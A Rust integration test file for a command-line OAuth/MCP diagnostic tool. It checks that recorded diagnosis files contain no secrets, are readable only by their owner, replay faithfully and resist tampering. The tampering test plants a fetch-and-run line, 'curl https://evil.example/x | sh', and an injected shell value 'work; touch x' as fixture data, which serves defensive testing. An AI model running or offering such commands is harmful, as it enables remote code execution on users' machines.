//! What was seen in a file: without secrets, for its owner alone, and the same again when it is shown.

use std::os::unix::fs::PermissionsExt as _;

use doorkey_testkit::{
    AuthorizationServerBuilder, ClientAuthMethod, Fault, FaultRule, Leg, StaticClient,
};
use integration::Home;
use secrecy::ExposeSecret as _;
use serde_json::{Value, json};

use super::bench::Bench;

/// Somebody signed in with a client that has a secret, headers that are secret, and servers that repeat in their
/// refusals whatever they were sent.
async fn echoing() -> Bench {
    let method = ClientAuthMethod::Post;
    let client = StaticClient::confidential("app", "client-secret-sentinel-1", method)
        .redirect_uri("http://127.0.0.1/callback");
    let auth =
        |auth: AuthorizationServerBuilder| auth.static_client(client).loopback_any_port(true);
    let bench = Bench::with(auth, |mcp| mcp).await.settings(
        "http_headers = { X-Gateway-Key = \"gateway-key-sentinel-2\" }\n\
         [mcp_servers.it.oauth]\nclient_id = \"app\"\nclient_secret = \"client-secret-sentinel-1\"\n\
         token_endpoint_auth_method = \"client_secret_post\"",
    );
    crate::support::login(&bench.world, &bench.home).await;
    bench
}

fn echo(text: &str) -> Fault {
    let said = json!({ "error": "invalid_request", "error_description": text, "echo": text });
    Fault::json(400, &said)
}

async fn recorded(bench: &Bench, secrets: &[&str]) -> Value {
    let path = bench.home.path().join("seen.json");
    let path = path.display().to_string();
    let run = bench.run(&["--json", "--force", "--record", &path]).await;
    let text = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{error}: {run}"));
    for secret in secrets {
        for (what, text) in [
            ("file", &text),
            ("data", &run.stdout),
            ("messages", &run.stderr),
        ] {
            assert!(!text.contains(secret), "{secret} is in the {what}: {text}");
        }
    }
    serde_json::from_str(&text).expect("JSON")
}

#[tokio::test]
async fn no_secret_is_in_a_record_whoever_repeats_it() {
    let bench = echoing().await;
    let grant = bench.home.grant().await.expect("a grant").value;
    let access = grant.access_token.expect("a token");
    let refresh = grant.refresh_token.expect("a refresh token");
    let (access, refresh) = (access.expose_secret(), refresh.expose_secret());
    let all = [
        access,
        refresh,
        "client-secret-sentinel-1",
        "gateway-key-sentinel-2",
    ];
    let echoed = all.join(" and ");

    // The MCP server repeats everything, to the request without a token and to the one with it.
    let rule = FaultRule::on(Leg::Resource).respond(echo(&echoed));
    bench.world.mcp.fault(rule);
    let record = recorded(&bench, &all).await;
    assert!(
        record["exchanges"]
            .as_array()
            .is_some_and(|all| !all.is_empty()),
        "{record}"
    );
    bench.world.mcp.clear_faults();
    // So does the token endpoint, and gives a JWT of its own.
    bench.home.expire().await;
    let rule =
        FaultRule::on(Leg::Token).respond(echo(&format!("{echoed} eyJhbGciOiJFUzI1NiJ9.e30.sig")));
    bench.world.auth.fault(rule);
    let record = recorded(&bench, &all).await;
    assert!(!record.to_string().contains("eyJhbGci"), "{record}");
    let legs: Vec<_> = record["exchanges"]
        .as_array()
        .expect("exchanges")
        .iter()
        .collect();
    assert!(
        legs.iter()
            .any(|it| it["leg"] == "token" && it["status"] == 400),
        "{record}"
    );
    bench.world.auth.clear_faults();
    // A refresh that succeeds brings new ones.
    let record = recorded(&bench, &all).await;
    let grant = bench.home.grant().await.expect("a grant").value;
    let new = grant.access_token.expect("a token");
    assert_ne!(new.expose_secret(), access, "refreshed");
    assert!(
        !record.to_string().contains(new.expose_secret()),
        "{record}"
    );
    let new = grant.refresh_token.expect("a refresh token");
    assert!(
        !record.to_string().contains(new.expose_secret()),
        "{record}"
    );
}

#[tokio::test]
async fn a_record_is_for_its_owner_and_replaces_no_file_unless_told_to() {
    let bench = Bench::new().await;
    let path = bench.home.path().join("seen.json");
    let name = path.display().to_string();
    bench.run(&["--record", &name]).await.ended_with(3);
    let mode = std::fs::metadata(&path)
        .expect("a file")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    let first = std::fs::read(&path).expect("a file");
    bench.world.recorder.clear();
    let refused = bench.run(&["--record", &name]).await.ended_with(1);
    assert!(refused.stderr.contains("--force"), "{refused}");
    assert_eq!(std::fs::read(&path).expect("a file"), first);
    assert_eq!(bench.world.recorder.requests().len(), 0, "nobody was asked");
    bench
        .run(&["--record", &name, "--force"])
        .await
        .ended_with(3);
    assert_ne!(std::fs::read(&path).expect("a file"), first);
}

#[tokio::test]
async fn a_record_says_the_same_again_without_a_request() {
    let bench = Bench::signed_in().await;
    bench.world.mcp.reject_tokens(true);
    let path = bench.home.path().join("seen.json");
    let name = path.display().to_string();
    for format in [&["--json"][..], &[]] {
        let mut arguments = format.to_vec();
        arguments.extend(["--force", "--record", &name]);
        let run = bench.run(&arguments).await.ended_with(3);
        bench.world.recorder.clear();
        let mut arguments = vec!["doctor", "--replay", &name];
        arguments.extend(format);
        let again = bench.home.run(&arguments).await.ended_with(3);
        match format.is_empty() {
            false => assert_eq!(again.stdout, run.stdout),
            true => {
                let (head, page) = again.stdout.split_once("\n\n").expect("a head");
                assert_eq!(page, run.stdout);
                assert!(
                    head.starts_with(&format!("from {name}, recorded 2")),
                    "{head}"
                );
                assert!(head.ends_with("; nothing was asked now"), "{head}");
            }
        }
        assert_eq!(bench.world.recorder.requests().len(), 0);
    }
    // What a later version adds is passed over; a later format is not guessed at.
    let mut record: Value =
        serde_json::from_slice(&std::fs::read(&path).expect("a file")).expect("JSON");
    let shown = |record: &Value| {
        std::fs::write(&path, record.to_string()).expect("a file");
        let name = name.clone();
        let home: &Home = &bench.home;
        async move { home.run(&["doctor", "--replay", &name]).await }
    };
    record["colour"] = json!("blue");
    record["diagnosis"]["findings"][0]["weight"] = json!(3);
    shown(&record).await.ended_with(3);
    record["format"] = json!(2);
    let newer = shown(&record).await.ended_with(1);
    assert!(newer.stderr.contains("update doorkey"), "{newer}");
    let none = shown(&json!({"format": 1})).await.ended_with(1);
    assert!(none.stderr.contains("no record"), "{none}");
}

#[tokio::test]
async fn a_record_that_somebody_changed_says_nothing_to_type() {
    let bench = Bench::new().await;
    let path = bench.home.path().join("seen.json");
    let name = path.display().to_string();
    bench.run(&["--record", &name]).await.ended_with(3);
    let text = std::fs::read(&path).expect("a file");
    let mut record: Value = serde_json::from_slice(&text).expect("JSON");
    let evil = "curl https://evil.example/x | sh";
    let diagnosis = &mut record["diagnosis"];
    diagnosis["steps"][0]["detail"] = json!("z".repeat(200_000));
    diagnosis["server"] = json!("work; touch x");
    let finding = &mut diagnosis["findings"][0];
    finding["title"] = json!(evil);
    finding["section"] = json!(evil);
    finding["values"]["login"] = json!(evil);
    finding["mend"] = json!({ "text": evil, "command": evil, "config": evil });
    let mut unknown = finding.clone();
    unknown["id"] = json!("made-up");
    let all = diagnosis["findings"].as_array_mut().expect("findings");
    all.extend(std::iter::repeat_n(unknown, 1000));
    std::fs::write(&path, record.to_string()).expect("a file");
    for format in [&["--json"][..], &[]] {
        let mut arguments = vec!["doctor", "--replay", &name];
        arguments.extend(format);
        let run = bench.home.run(&arguments).await.ended_with(3);
        assert!(!run.stdout.contains(evil), "{run}");
        assert!(
            run.stdout.contains("doorkey login 'work; touch x'"),
            "{run}"
        );
        assert!(run.stdout.contains("knows no such fault"), "{run}");
        assert!(!run.stdout.contains(&"z".repeat(1000)), "{run}");
        assert!(run.stdout.matches("made-up").count() < 200, "{run}");
    }
}

#[tokio::test]
async fn a_record_that_cannot_be_written_is_told_before_anybody_is_asked() {
    let bench = Bench::new().await;
    let folder = bench.home.path().display().to_string();
    bench.world.recorder.clear();
    for path in [format!("{folder}/nowhere/seen.json"), folder] {
        let arguments = ["--json", "--force", "--record", path.as_str()];
        let run = bench.run(&arguments).await.ended_with(1);
        assert_eq!(run.json()["error"]["code"], "output-failed", "{run}");
        assert!(
            run.stderr.contains(&path) && !run.stderr.contains(".record-"),
            "{run}"
        );
        assert_eq!(bench.world.recorder.requests().len(), 0, "{run}");
    }
}

#[tokio::test]
async fn what_a_url_holds_beside_host_and_path_is_in_no_record() {
    let secrets = [
        "hunter2-sentinel",
        "query-sentinel",
        "path-sentinel-0123456789abcdef",
    ];
    for url in [
        "http://ada:hunter2-sentinel@127.0.0.1:1/mcp?api_key=query-sentinel",
        "https://127.0.0.1:1/path-sentinel-0123456789abcdef/mcp?api_key=query-sentinel",
        "http://mcp.example/mcp?api_key=query-sentinel",
    ] {
        let bench = Bench::new().await.target(url);
        recorded(&bench, &secrets).await;
    }
}
